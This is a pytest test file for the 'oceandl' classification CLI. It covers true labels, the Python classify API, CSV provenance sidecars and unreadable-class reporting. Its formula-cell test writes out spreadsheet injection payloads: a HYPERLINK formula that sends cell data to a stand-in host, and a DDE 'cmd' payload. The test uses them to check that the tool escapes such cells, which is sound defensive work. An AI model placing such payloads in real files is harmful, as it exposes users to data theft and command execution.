"""Audit 108: classify's true labels, paths from Python, CSV provenance and formula cells; info's
left-out classes; --init's recorded path."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import xarray as xr
from click.testing import CliRunner

from oceandl.cli.main import cli
from oceandl.datasets.images import TENGEOP_CLASSES
from oceandl.datasets.synthetic_images import make_sar_vignettes

from fakes import assert_cli_error, torch_threads


def invoke(*args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def train(data, out, *extra):
    res = invoke("train", "classifier", "--data", data, "--epochs", 1, "--device", "cpu", "--quiet",
                 "--set", "channels=4,8", "--set", "hidden=8", "-o", out, *extra)
    assert res.exit_code == 0, res.output
    return out


@pytest.fixture(autouse=True, scope="module")
def _one_thread():
    with torch_threads(1):  # tiny networks: two threads' synchronisation costs more than it saves
        yield


@pytest.fixture(scope="module")
def sar_tree(tmp_path_factory):
    """A small TenGeoP-SARwv layout: <F..O>/*.tiff + metadata.csv (3 vignettes a class, 16 x 16)."""
    return make_sar_vignettes(tmp_path_factory.mktemp("a108") / "GeoTIFF", n_per_class=3, size=16, seed=0)


@pytest.fixture(scope="module")
def sar_model(sar_tree, tmp_path_factory):
    return train(sar_tree, tmp_path_factory.mktemp("ck") / "sar")


def _pngs(root: Path, classes, n: int = 4, seed: int = 0) -> Path:
    """``root/<class>/<i>.png``: 16 x 16 grey images, brighter for each class in turn."""
    from PIL import Image

    rng = np.random.default_rng(seed)
    for k, c in enumerate(classes):
        (root / c).mkdir(parents=True, exist_ok=True)
        for i in range(n):
            a = np.clip(rng.normal(40 + 60 * k, 20, (16, 16)), 0, 255).astype(np.uint8)
            Image.fromarray(a).save(root / c / f"{i}.png")
    return root


@pytest.fixture(scope="module")
def tree_model(tmp_path_factory):
    """A model of three generic classes (calm, eddy, front) and the tree it was trained on."""
    root = _pngs(tmp_path_factory.mktemp("tree") / "train", ["calm", "eddy", "front"])
    return root, train(root, tmp_path_factory.mktemp("ck") / "tree")


# ------------------------------------------------------------------ 1. true labels of a labelled tree
def _accuracy_line(res) -> str:
    lines = [ln for ln in res.stdout.splitlines() if ln.startswith("accuracy")]
    assert len(lines) == 1, res.output
    return lines[0]


def test_classify_a_tengeop_tree_gives_each_image_its_true_class(sar_tree, sar_model, tmp_path):
    """`classify --model M GeoTIFF/` on the tree the model's classes come from wrote no true label:
    the TenGeoP letter folders (F..O) are named as the model's classes (Pure Ocean Waves, ...) in a
    ``true_class`` column, and the accuracy over them is printed, with the count."""
    out = tmp_path / "p.csv"
    res = invoke("classify", "--model", sar_model, sar_tree, "-o", out, "--quiet")
    assert res.exit_code == 0, res.output
    df = pd.read_csv(out, keep_default_na=False)
    assert len(df) == 30
    letters = df["path"].map(lambda p: Path(p).parent.name)
    assert (df["true_class"] == letters.map(TENGEOP_CLASSES)).all()
    right = int((df["predicted"] == df["true_class"]).sum())
    assert _accuracy_line(res).startswith(f"accuracy {right / 30:.4f}: {right} of 30 labelled images")
    # the netCDF output has it too, along sample
    res = invoke("classify", "--model", sar_model, sar_tree, "-o", tmp_path / "p.nc", "--quiet")
    assert res.exit_code == 0, res.output
    with xr.open_dataset(tmp_path / "p.nc") as ds:
        assert ds["true_class"].dims == ("sample",)
        assert list(ds["true_class"].values) == list(df["true_class"])
    # files given one by one: their own folder names the class
    files = sorted((sar_tree / "K").glob("*.tiff"))[:2]
    res = invoke("classify", "--model", sar_model, *files, "-o", tmp_path / "k.csv", "--quiet")
    assert res.exit_code == 0, res.output
    assert list(pd.read_csv(tmp_path / "k.csv")["true_class"]) == ["Sea Ice", "Sea Ice"]


def test_true_class_only_from_folders_named_as_the_models_classes(tree_model, tmp_path):
    """A folder not named as a class of the model (a class it was not trained on, a year folder)
    gives an empty true_class, and is not counted in the accuracy; an unreadable image neither.
    Folders above the one given are not read as labels; images without a labelled folder have no
    true_class column at all, and no accuracy line."""
    root, model = tree_model
    data = tmp_path / "new"
    shutil.copytree(root / "calm", data / "calm" / "2014")  # <class>/<year>/: the class, as training reads it
    shutil.copytree(root / "front", data / "front")
    shutil.copytree(root / "eddy", data / "ship")  # not a class of the model
    (data / "front" / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\njunk")
    out = tmp_path / "p.csv"
    res = invoke("classify", "--model", model, data, "-o", out, "--quiet")
    assert res.exit_code == 0, res.output
    df = pd.read_csv(out, keep_default_na=False)
    folder = df["path"].map(lambda p: Path(p).relative_to(data).parts[0])
    want = folder.map({"calm": "calm", "front": "front", "ship": ""})
    assert (df["true_class"] == want).all() and len(df) == 13
    scored = (df["true_class"] != "") & (df["error"] == "")
    assert scored.sum() == 8  # 4 calm + 4 front, not the broken file nor the ship folder
    right = int((df["predicted"] == df["true_class"])[scored].sum())
    assert _accuracy_line(res).startswith(f"accuracy {right / 8:.4f}: {right} of 8 labelled images")
    # images loose in a folder whose parent is named as a class: not labelled by the folders above
    loose = tmp_path / "calm" / "batch"
    shutil.copytree(root / "eddy", loose)
    res = invoke("classify", "--model", model, loose, "-o", tmp_path / "loose.csv", "--quiet")
    assert res.exit_code == 0, res.output
    assert "true_class" not in pd.read_csv(tmp_path / "loose.csv").columns
    assert not [ln for ln in res.stdout.splitlines() if ln.startswith("accuracy")]
    # ... but the folder given is its own label when it is named as a class
    res = invoke("classify", "--model", model, tmp_path / "calm", "-o", tmp_path / "calm.csv", "--quiet")
    assert res.exit_code == 0, res.output
    assert set(pd.read_csv(tmp_path / "calm.csv")["true_class"]) == {"calm"}


def test_true_class_of_a_taxonomy_tree(tmp_path):
    """A model trained with --class-folders leaf names its classes by their path
    (``Protista/Diatoms``), less year folders: the images of such a tree get those names."""
    from oceandl.classification import true_classes

    classes = ["Metazoa", "Protista/Diatoms", "Protista/Dinoflagellata"]
    files = ["t/Protista/Diatoms/2014/a.png", "t/Protista/Dinoflagellata/b.png", "t/Metazoa/copepod/c.png",
             "t/Protista/d.png", "t/2014/Protista/Diatoms/e.png"]
    got = true_classes("t", files, classes)
    assert got == {files[0]: "Protista/Diatoms", files[1]: "Protista/Dinoflagellata", files[2]: "Metazoa",
                   files[4]: "Protista/Diatoms"}


# ------------------------------------------------------------------ 2. oceandl.classify takes paths
def test_python_classify_of_paths_is_the_commands(sar_tree, sar_model, tmp_path):
    """`oceandl.classify("folder/", model)` told the user to build an ImageFilesDataset (and which
    size, bands and fit were the checkpoint's was theirs to find); a folder, a list of files and a
    netCDF stack are now read as `oceandl classify` reads them: the same probabilities, true
    classes and metadata as its netCDF output."""
    import oceandl

    res = invoke("classify", "--model", sar_model, sar_tree, "-o", tmp_path / "cli.nc", "--quiet")
    assert res.exit_code == 0, res.output
    got = oceandl.classify(str(sar_tree), sar_model, device="cpu")
    with xr.open_dataset(tmp_path / "cli.nc") as cli_ds:
        np.testing.assert_array_equal(got["probabilities"].values, cli_ds["probabilities"].values)
        for v in ("predicted", "path", "true_class"):
            assert list(got[v].values) == list(cli_ds[v].values), v
        np.testing.assert_array_equal(got["latitude"].values, cli_ds["latitude"].values)
    files = sorted((sar_tree / "G").glob("*.tiff"))
    few = oceandl.classify(files, sar_model, device="cpu")  # a list of Paths
    rows = [list(got["path"].values).index(str(f)) for f in files]
    np.testing.assert_array_equal(few["probabilities"].values, got["probabilities"].values[rows])
    assert set(few["true_class"].values) == {"Wind Streaks"}
    # a netCDF stack by its path (var= as --var), as the command classifies it
    stack = tmp_path / "stack.nc"
    arr = np.random.default_rng(0).random((4, 16, 16)).astype(np.float32)
    xr.Dataset({"img": (("sample", "y", "x"), arr)}).to_netcdf(stack)
    res = invoke("classify", "--model", sar_model, stack, "--var", "img", "-o", tmp_path / "s.nc", "--quiet")
    assert res.exit_code == 0, res.output
    with xr.open_dataset(tmp_path / "s.nc") as cli_ds:
        np.testing.assert_array_equal(oceandl.classify(stack, sar_model, var="img", device="cpu")["probabilities"],
                                      cli_ds["probabilities"].values)
    from oceandl.errors import InputError

    with pytest.raises(InputError, match="var='img': names the image variable of a netCDF stack"):
        oceandl.classify(files, sar_model, var="img", device="cpu")


# ------------------------------------------------------------------ 3. the CSV's provenance
def test_csv_has_its_provenance_in_a_json_beside_it(sar_tree, sar_model, tmp_path, monkeypatch):
    """The .nc of predictions names its model, command and versions; the CSV said nothing. It stays
    plain (its first line is the header: pandas reads it as before) and `<output>.json` holds the
    provenance, written with it: both or neither, refused when either exists without --overwrite."""
    import hashlib
    import importlib

    cli_main = importlib.import_module("oceandl.cli.main")
    out = tmp_path / "p.csv"
    side = tmp_path / "p.csv.json"
    monkeypatch.chdir(sar_model.parent)  # the model given relative: the JSON names it absolute
    args = ("classify", "--model", sar_model.name, sar_tree / "F", "-o", out, "--min-confidence", 0.2, "--quiet")
    res = invoke(*args)
    assert res.exit_code == 0, res.output
    assert out.read_text().splitlines()[0].startswith("sample,predicted,")
    assert len(pd.read_csv(out)) == 3
    prov = json.loads(side.read_text())
    assert prov["model"] == str(sar_model.resolve()) and Path(prov["model"]).is_absolute()
    assert prov["model_sha256"] == hashlib.sha256((sar_model / "weights.safetensors").read_bytes()).hexdigest()
    assert prov["classes"] == list(TENGEOP_CLASSES.values()) and prov["predictions"] == "p.csv"
    assert prov["min_confidence"] == 0.2 and prov["tta"] is False
    assert prov["command"] == f"oceandl classify --model {sar_model.name} {sar_tree / 'F'} -o {out} " \
                              "--min-confidence 0.2 --quiet"
    import oceandl

    assert prov["oceandl_version"] == oceandl.__version__
    assert pd.Timestamp(prov["date"]).tzinfo is not None
    # either one there: refused without --overwrite, nothing written
    out.unlink()
    assert_cli_error(invoke(*args), 2, "p.csv.json: already exists", "--overwrite")
    assert not out.exists()
    # --overwrite replaces both; a failure while writing them leaves both as they were
    res = invoke(*args, "--overwrite")
    assert res.exit_code == 0 and out.exists(), res.output
    before = out.read_bytes(), side.read_bytes()

    def fail(*a, **k):
        raise OSError("disk full")

    monkeypatch.setattr(cli_main, "_csv_provenance", fail)
    res = invoke(*args, "--overwrite")
    assert res.exit_code == 1 and "disk full" in res.output
    assert (out.read_bytes(), side.read_bytes()) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv", "p.csv.json"]  # no temporary left
    # a .nc has its provenance in its attributes: no sidecar
    res = invoke("classify", "--model", sar_model.name, sar_tree / "F", "-o", tmp_path / "p.nc", "--quiet")
    assert res.exit_code == 0 and not (tmp_path / "p.nc.json").exists()


# ------------------------------------------------------------------ 4. formula cells in the CSV
def test_csv_text_cells_are_never_formulas(tree_model, tmp_path, monkeypatch):
    """Class names come from a checkpoint's config.json and paths from an archive, both from others:
    a class '=HYPERLINK(...)' or a folder '@evil' was a formula when the CSV was opened in a
    spreadsheet. Text cells beginning with =, +, -, @ (not numbers) get a leading ', the numeric
    columns are written as they were, and the .nc and the JSON keep the names unchanged."""
    import csv

    from fakes import edit_checkpoint_config

    root, model = tree_model
    names = ['=HYPERLINK("x.example?"&A1)', "-2+3+cmd|' -C calc'!A0", "-1.5"]
    edit_checkpoint_config(model, tmp_path / "evil", classes=names)
    shutil.copytree(root / "calm", tmp_path / names[0])  # labelled by the first class
    shutil.copytree(root / "eddy", tmp_path / "@evil")
    monkeypatch.chdir(tmp_path)  # relative paths: the path cells begin with the folder's name
    res = invoke("classify", "--model", "evil", names[0], "@evil", "-o", "p.csv",
                 "--quiet")
    assert res.exit_code == 0, res.output
    res = invoke("classify", "--model", "evil", names[0], "@evil", "-o", "p.nc",
                 "--quiet")
    assert res.exit_code == 0, res.output
    with open("p.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    with xr.open_dataset("p.nc") as nc:
        assert len(rows) == nc.sizes["sample"] == 8
        for row, path, pred, true in zip(rows, nc["path"].values, nc["predicted"].values, nc["true_class"].values):
            assert row["path"] == "'" + path and path[0] in "=@"
            want = pred if pred in ("-1.5", "unassigned") else "'" + pred
            assert row["predicted"] == want
            assert row["true_class"] == ("'" + true if true else "")
        assert set(nc["true_class"].values) == {names[0], ""}
        # numbers as they were: the labels, the probabilities to 5 decimals
        df = pd.read_csv("p.csv")
        np.testing.assert_array_equal(df["label"], nc["label"].values)
        np.testing.assert_allclose(df["probability"], nc["probability"].values, atol=5e-6)
        np.testing.assert_allclose(df[[f"p_{c}" for c in names]], nc["probabilities"].values, atol=5e-6)
    assert json.loads(Path("p.csv.json").read_text())["classes"] == names
    from oceandl.cli.main import _no_formula

    assert [_no_formula(v) for v in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-1.5", "+3", "-inf", "a=b",
                                     "", 3)] == ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "-1.5", "+3",
                                                "-inf", "a=b", "", 3]


# ------------------------------------------------------------------ 5. info: classes all unreadable
def test_a_class_of_unreadable_images_only_is_a_left_out_class(sar_tree, tree_model, tmp_path):
    """A class folder whose images are all unreadable was 'no images of class(es) Iceberg', as a
    class without a folder, and `oceandl info` did not list it among the left-out classes: a user
    reading the class list could not tell Iceberg's folder was there, its files corrupt. It is now
    named (0 readable images in config.json), at the header check and when decoding fails."""
    from PIL import Image

    data = tmp_path / "GeoTIFF"
    shutil.copytree(sar_tree, data)
    for f in (data / "L").glob("*.tiff"):  # Iceberg: every file corrupt
        f.write_bytes(b"II*\x00garbage")
    out = train(data, tmp_path / "m")
    cfg = json.loads((out / "config.json").read_text())
    assert cfg["left_out_classes"] == {"Iceberg": 0} and "Iceberg" not in cfg["classes"]
    lines = {ln.split(":", 1)[0]: ln.split(":", 1)[1].strip() for ln in invoke("info", out).stdout.splitlines()}
    assert lines["left out classes"] == "Iceberg (no readable image): too few for training, validation and test"
    assert lines["unreadable images"].startswith("3, left out")
    # JPEGs whose header reads but whose pixels are cut: found when decoded, in a class of their own
    root, _ = tree_model
    tree = tmp_path / "tree"
    shutil.copytree(root, tree)
    (tree / "ship").mkdir()
    for i in range(3):
        Image.fromarray(np.full((16, 16), 90, np.uint8)).save(tree / "ship" / f"{i}.jpg", quality=95)
        p = tree / "ship" / f"{i}.jpg"
        p.write_bytes(p.read_bytes()[:-200])
    out = train(tree, tmp_path / "m2")
    cfg = json.loads((out / "config.json").read_text())
    assert cfg["classes"] == ["calm", "eddy", "front"] and cfg["left_out_classes"] == {"ship": 0}
    assert len(cfg["unreadable_images"]) == 3
